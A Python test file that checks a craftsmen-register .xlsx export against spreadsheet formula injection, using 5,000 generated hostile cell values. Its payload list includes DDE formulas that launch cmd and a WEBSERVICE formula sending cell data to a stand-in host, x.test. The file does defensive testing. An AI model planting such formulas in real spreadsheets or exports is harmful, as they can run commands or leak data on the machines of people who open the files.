"""Whatever somebody wrote, a list that goes out computes nothing."""

import random
from collections.abc import Iterator
from io import BytesIO

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import insert

from app.db import Database
from models.base import new_id
from models.craftsman import Craftsman

AMOUNT = 5_000
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\n=", "＝", "{=", "'=", '"=', " =", "\u200b=", "%0A=", ";=", "==", "=-")
FORMULAS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test","点我")', "1+1", "SUM(A1:A9)", "IMPORTXML(A1,B1)", "A1",
    'WEBSERVICE("http://x.test/"&A2)', "DDE(\"cmd\";\"/C calc\";\"x\")", "INDIRECT(A1)", "#REF!", "TRUE", "NaN",
)  # fmt: skip


def hostile() -> Iterator[str]:
    """The same every time."""
    chance = random.Random(4)
    for number in range(AMOUNT):
        tail = "".join(chr(chance.randrange(32, 0x9FFF)) for _ in range(chance.randrange(6)))
        yield f"{chance.choice(BEGINNINGS)}{chance.choice(FORMULAS)}{tail}{number}"


def test_of_five_thousand_hostile_texts_none_is_a_formula(client: TestClient, database: Database):
    texts = list(hostile())
    with database.session() as db:
        rows = [
            {"id": new_id(), "name": text[:60], "pinyin": "", "speciality": text, "employer": text[:120],
             "honours": [text], "region_code": "440605"}
            for text in texts
        ]  # fmt: skip
        db.execute(insert(Craftsman), rows)
    answer = client.get("exports/craftsmen.xlsx", params={"purpose": "检查导出的安全"})
    assert answer.status_code == 200
    sheet = load_workbook(BytesIO(answer.content), data_only=False).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert sheet.max_row == AMOUNT + 1
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    assert sum(str(cell.value).lstrip().startswith("=") for cell in cells) > AMOUNT
